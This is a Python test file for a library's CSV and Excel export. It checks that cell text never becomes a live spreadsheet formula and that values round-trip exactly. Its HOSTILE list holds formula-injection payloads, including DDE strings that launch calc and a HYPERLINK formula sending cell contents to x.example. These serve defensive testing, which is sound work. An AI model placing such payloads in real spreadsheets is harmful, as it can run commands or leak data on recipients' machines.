"""Cells that are not what they seem, in CSV and in a workbook."""

import csv
import datetime as dt
import io
import math
import subprocess
import sys
import zipfile
from decimal import Decimal
from enum import StrEnum

import numpy as np
import openpyxl
import pandas as pd
import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from okrkit.errors import DocumentError, InvalidOKRError, MissingExtraError
from okrkit.results import Tabular
from okrkit.results.csv_text import bare, guarded
from okrkit.results.workbook import unescaped, write_xlsx

HOSTILE = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://x.example?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\ufeff=1+1",
    "\u200b@x",
    "\uff1d1+1",
    "\uff20SUM(A1)",
    "'=1+1",
    "''=1+1",
    '","=1+1',
    'a"b,c;d\r\ne',
    "#REF!",
    "#N/A",
    "1E5",
    "007",
    "_x0041_ \x07 \ufffe",
    "lone \ud800",
    "</t></is></c><c><f>1+1</f></c>",
    " blanks ",
    "\U0001f600 \u202e",
]
WRITABLE = [text for text in HOSTILE if "\ud800" not in text]
STARTS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"

TEXTS = st.text(st.characters(exclude_categories=["Cs"])) | st.sampled_from(WRITABLE)
NUMBERS = st.none() | st.floats(allow_nan=False)
DAYS = st.none() | st.dates()
TIMES = st.none() | st.datetimes()


class Rows(Tabular):
    """Any columns as a result."""

    kind = "rows: of [any] kind, whatever they hold"

    def __init__(self, **columns):
        """Take the columns."""
        self.columns = columns

    def to_columns(self):
        """Give them."""
        return self.columns


def objects(values):
    """Return a column that may hold anything."""
    column = np.empty(len(values), object)
    column[:] = values
    return column


def lines_of(text):
    """Return the rows of a CSV text, without their names."""
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))[1:]


def names_in(folder):
    """Return the names of what is in a folder."""
    return sorted(path.name for path in folder.iterdir())


def opened(path):
    """Return the sheet of a workbook."""
    return openpyxl.load_workbook(path).active


class TestCSV:
    """Text that no spreadsheet runs, and that reads back as what it was."""

    @pytest.mark.parametrize("text", HOSTILE)
    def test_no_cell_begins_as_a_formula(self, text):
        """Nor does it after what a spreadsheet passes over; and it is undone."""
        ((cell,),) = lines_of(Rows(title=np.array([text], object)).to_csv())

        assert not cell.lstrip(" \ufeff\u200b").startswith(tuple(STARTS))
        assert text == bare(cell)

    def test_names_are_guarded_too(self):
        """A column may be named by a customer's segment."""
        assert "'=a,b\r\n1,2\r\n" == Rows(**{"=a": np.r_[1], "b": np.r_[2]}).to_csv()

    def test_every_type(self):
        """Numbers stay numbers, also negative ones; what is not known is empty."""
        made = Rows(
            number=np.array([-3.2, 40.0, np.nan]),
            count=np.array([2**60, -1, 0]),
            late=np.array([True, False, True]),
            on=np.array(["2026-11-15", "NaT", "1858-11-17"], "M8[D]"),
            at=np.array(["2026-11-15T10:30", "NaT", "2026-11-15"], "M8[ns]"),
            masked=np.ma.masked_array([1.0, 2.0, 3.0], mask=[False, True, False]),
            mixed=objects([None, dt.date(2026, 11, 15), ("a", "=b")]),
        )
        text = (
            "number,count,late,on,at,masked,mixed\r\n"
            "-3.2,1152921504606846976,true,2026-11-15,2026-11-15T10:30:00,1,\r\n"
            "40,-1,false,,,,2026-11-15\r\n"
            ',0,true,1858-11-17,2026-11-15T00:00:00,3,"[""a"", ""=b""]"\r\n'
        )

        assert text == made.to_csv()

    def test_other_texts_and_numbers(self):
        """A member is its text, a number is one, and a decimal keeps its digits."""

        class Colour(StrEnum):
            RED = "=red"

        odd = [Colour.RED, np.float64(2.5), np.int64(3), np.nan, Decimal("1.20")]
        moments = [pd.Timestamp("2026-11-15 10:30"), pd.NaT]
        lines = ["a", "'=red", "2.5", "3", '""', "1.20", "2026-11-15T10:30:00", '""']

        assert lines == Rows(a=objects([*odd, *moments])).to_csv().splitlines()

    def test_infinity(self):
        """Minus infinity begins with a sign and is no number to a spreadsheet."""
        made = Rows(a=np.array([np.inf, -np.inf]))

        assert "a\r\ninf\r\n'-inf\r\n" == made.to_csv()

    def test_no_rows_and_no_columns(self):
        """A table of nothing has its names."""
        assert "a,b\r\n" == Rows(a=np.array([]), b=np.array([], str)).to_csv()
        assert "\r\n" == Rows().to_csv()

    @given(st.lists(st.tuples(TEXTS, NUMBERS, DAYS, TIMES)))
    def test_reads_back_the_same(self, rows):
        """Whatever the texts, numbers and days are; nothing is an empty cell."""
        columns = list(zip(*rows, strict=True)) or [()] * 4
        made = Rows(**dict(zip("tnda", map(objects, columns), strict=True)))
        back = [
            (
                bare(text),
                float(bare(number)) if number else None,
                dt.date.fromisoformat(day) if day else None,
                dt.datetime.fromisoformat(at) if at else None,
            )
            for text, number, day, at in lines_of(made.to_csv())
        ]

        assert rows == back

    @given(st.lists(st.text(), min_size=1))
    def test_guards_can_be_undone(self, texts):
        """Whatever the text, also one that has an apostrophe already."""
        assert texts == [bare(guarded(text)) for text in texts]

    def test_polars_reads_it(self, tmp_path):
        """A program that is no spreadsheet gets the same types."""
        path = tmp_path / "card.csv"
        Rows(
            id=np.array(["a", "b"]),
            score=np.array([0.5, np.nan]),
            on=np.array(["2026-11-15", "NaT"], "M8[D]"),
            late=np.array([True, False]),
        ).to_csv(path)

        assert [
            ("a", 0.5, dt.date(2026, 11, 15), True),
            ("b", None, None, False),
        ] == pl.read_csv(path, try_parse_dates=True).rows()

    def test_a_file_is_written_whole_or_not_at_all(self, tmp_path):
        """What was there before is untouched, and nothing else lies beside it."""
        path = tmp_path / "card.csv"
        path.write_bytes(b"old")
        with pytest.raises(InvalidOKRError) as caught:
            Rows(title=np.array(["a", "lone \ud800"], object)).to_csv(path)
        with pytest.raises(DocumentError):
            Rows().to_csv(tmp_path / "none" / "card.csv")
        with pytest.raises(InvalidOKRError):
            Rows().to_csv(3)

        assert "text-not-unicode" == caught.value.code
        assert (["card.csv"], b"old") == (names_in(tmp_path), path.read_bytes())


class TestXLSX:
    """A workbook in which texts are texts, and days are days."""

    def test_hostile_texts(self, tmp_path):
        """No formula, no error, no link; each text as it was."""
        Rows(title=np.array(HOSTILE, object)).to_xlsx(tmp_path / "a.xlsx")
        cells = [row[0] for row in opened(tmp_path / "a.xlsx").iter_rows(min_row=2)]

        assert {"s"} == {cell.data_type for cell in cells}
        assert {None} == {cell.hyperlink for cell in cells}
        assert [
            text.encode(errors="surrogatepass") for text in HOSTILE
        ] == [
            unescaped(cell.value).encode(errors="surrogatepass") for cell in cells
        ]  # fmt: skip

    def test_an_edited_cell_stays_a_text(self, tmp_path):
        """Excel takes what is typed into a cell for a formula, unless told."""
        Rows(a=np.array(["=1+1", "plain"])).to_xlsx(tmp_path / "a.xlsx")
        sheet = opened(tmp_path / "a.xlsx")

        assert [True, False] == [bool(sheet[at].quotePrefix) for at in ("A2", "A3")]

    def test_every_type(self, tmp_path):
        """Numbers to the last digit, truths, days, times; no cell where nothing is."""
        days = ["2026-11-15", "NaT", "1858-11-17", "1900-03-01"]
        Rows(
            number=np.array([-3.2, 0.1 + 0.2, np.nan, np.inf]),
            count=np.array([2**53, 2**53 + 1, -(2**53) - 1, 0]),
            late=np.array([True, False, True, False]),
            on=np.array(days, "M8[D]"),
            at=np.array(
                ["2026-11-15T10:30", "NaT", "1858-11-17", "2026-11-15"], "M8[s]"
            ),
            mixed=objects(["", None, dt.datetime(2026, 11, 15, tzinfo=dt.UTC), {}]),
        ).to_xlsx(tmp_path / "a.xlsx")
        rows = opened(tmp_path / "a.xlsx").iter_rows(min_row=2, values_only=True)
        day, early = dt.datetime(2026, 11, 15), "1858-11-17"  # noqa: DTZ001 - has none

        assert [
            (-3.2, 2**53, True, day, day.replace(hour=10, minute=30), None),
            (0.1 + 0.2, str(2**53 + 1), False, None, None, None),
            (None, str(-(2**53) - 1), True, early, f"{early}T00:00:00",
             "2026-11-15T00:00:00+00:00"),
            ("inf", 0, False, dt.datetime(1900, 3, 1), day, "{}"),  # noqa: DTZ001
        ] == list(rows)  # fmt: skip

    def test_how_it_looks(self, tmp_path):
        """Names are bold and stay in sight, columns are as wide as they must be."""
        Rows(
            title=np.array(["x" * 500, "b"]),
            score=np.array([0.5, np.nan]),
            on=np.array(["2026-11-15", "NaT"], "M8[D]"),
        ).to_xlsx(tmp_path / "a.xlsx")
        sheet = opened(tmp_path / "a.xlsx")
        widths = [sheet.column_dimensions[letter].width for letter in "ABC"]

        assert ("A2", [60, 10, 12]) == (sheet.freeze_panes, widths)
        assert all(cell.font.bold for cell in sheet[1])
        assert ("0.0%", 0.5) == (sheet["B2"].number_format, sheet["B2"].value)
        assert "yyyy-mm-dd" == sheet["C2"].number_format
        assert "rows  of  any  kind, whatever t" == sheet.title

    @given(rows=st.lists(st.tuples(TEXTS, NUMBERS, DAYS), max_size=9))
    def test_reads_back_the_same(self, tmp_path_factory, rows):
        """Whatever the texts, numbers and days are."""
        path = tmp_path_factory.getbasetemp() / "a.xlsx"
        columns = list(zip(*rows, strict=True)) or [()] * 3
        Rows(**dict(zip("tnd", map(objects, columns), strict=True))).to_xlsx(path)
        sheet = opened(path)
        back = [
            [sheet.cell(row, column).value for column in (1, 2, 3)]
            for row in range(2, len(rows) + 2)
        ]

        for (text, number, day), (wrote, count, date) in zip(rows, back, strict=True):
            assert text == unescaped(wrote or "")
            infinite = number is not None and math.isinf(number)
            assert number == (float(count) if infinite else count)
            late = day is None or day >= dt.date(1900, 3, 1)
            assert day == (
                date and (date.date() if late else dt.date.fromisoformat(date))
            )

    @pytest.mark.parametrize("text", ["x" * 32_768, "\x07" * 5_000])
    def test_too_long_a_text(self, text, tmp_path):
        """Excel would repair the file by cutting it off; the place is named."""
        path = tmp_path / "a.xlsx"
        path.write_bytes(b"old")
        with pytest.raises(InvalidOKRError) as caught:
            Rows(a=np.array(["", ""]), b=np.array(["", text])).to_xlsx(path)

        assert ("not-writable", "row 3, column 2") == (
            caught.value.code,
            caught.value.place,
        )
        assert (["a.xlsx"], b"old") == (names_in(tmp_path), path.read_bytes())

    @pytest.mark.parametrize(
        ("names", "rows"), [(["a"], [()] * 1_048_576), ([*"a" * 16_385], [])]
    )
    def test_more_than_a_sheet_holds(self, names, rows):
        """The way out is CSV."""
        with pytest.raises(InvalidOKRError, match="Write it as CSV"):
            write_xlsx(names, rows, title="a")

    def test_the_same_rows_are_the_same_bytes(self, tmp_path, monkeypatch):
        """No clock is asked: a file in git changes only where a value does."""
        made = []
        for second in (0, 10**9):
            monkeypatch.setattr("time.time", lambda now=second: now)
            Rows(a=np.array(["x"]), b=np.r_[1]).to_xlsx(tmp_path / "a.xlsx")
            made.append((tmp_path / "a.xlsx").read_bytes())
            monkeypatch.undo()
        parts = zipfile.ZipFile(io.BytesIO(made[0])).infolist()

        assert made[0] == made[1]
        assert {(1980, 1, 1, 0, 0, 0)} == {part.date_time for part in parts}
        assert {zipfile.ZIP_DEFLATED} == {part.compress_type for part in parts}

    def test_without_the_extra(self, monkeypatch, tmp_path):
        """It says what to install, and makes no file."""
        monkeypatch.setitem(sys.modules, "openpyxl", None)
        with pytest.raises(MissingExtraError, match=r"okrkit\[xlsx\]"):
            Rows(a=np.r_[1]).to_xlsx(tmp_path / "a.xlsx")

        assert [] == names_in(tmp_path)

    def test_an_interrupt_leaves_nothing(self, tmp_path):
        """Ctrl+C while rows are written: no half file, no spare one, no complaint."""
        code = """
import os, sys, tempfile
import numpy as np, openpyxl
from okrkit.results import Tabular
from openpyxl.worksheet._write_only import WriteOnlyWorksheet as Sheet
tempfile.tempdir = sys.argv[2]
class Rows(Tabular):
    def to_columns(self): return {"a": np.arange(9)}
before, calls = Sheet.append, []
def append(self, row):
    calls.append(row)
    if len(calls) == 5: raise KeyboardInterrupt
    before(self, row)
Sheet.append = append
try: Rows().to_xlsx(sys.argv[1] + "/a.xlsx")
except KeyboardInterrupt: print(os.listdir(sys.argv[1]))
"""
        spare = tmp_path / "spare"
        target = tmp_path / "target"
        for folder in (spare, target):
            folder.mkdir()
        done = subprocess.run(
            [sys.executable, "-W", "error", "-c", code, target, spare],
            capture_output=True,
            text=True,
            check=True,
        )

        assert ("[]\n", "", []) == (done.stdout, done.stderr, names_in(spare))


@pytest.mark.parametrize(
    ("write", "name"),
    [
        (Rows.to_csv, "y.xlsx"),
        (Rows.to_csv, "y.JSON"),
        (Rows.to_xlsx, "y.csv"),
        (Rows.to_xlsx, "y.xls"),
    ],
)
def test_a_name_that_says_another_format_is_refused(write, name, tmp_path):
    """Excel opens neither: it believes the name, and calls the file damaged."""
    with pytest.raises(DocumentError) as caught:
        write(Rows(n=np.array([1.0])), tmp_path / name)

    assert ("format-unknown", []) == (caught.value.code, list(tmp_path.iterdir()))


@pytest.mark.parametrize("name", ["y.txt", "y.CSV", "y.tsv", "y", "card.2026-11"])
def test_a_name_that_says_no_other_format_is_taken(name, tmp_path):
    """Whoever wants a name of his own has it."""
    text = Rows(n=np.array([1.0])).to_csv(tmp_path / name)

    assert text.encode() == (tmp_path / name).read_bytes()
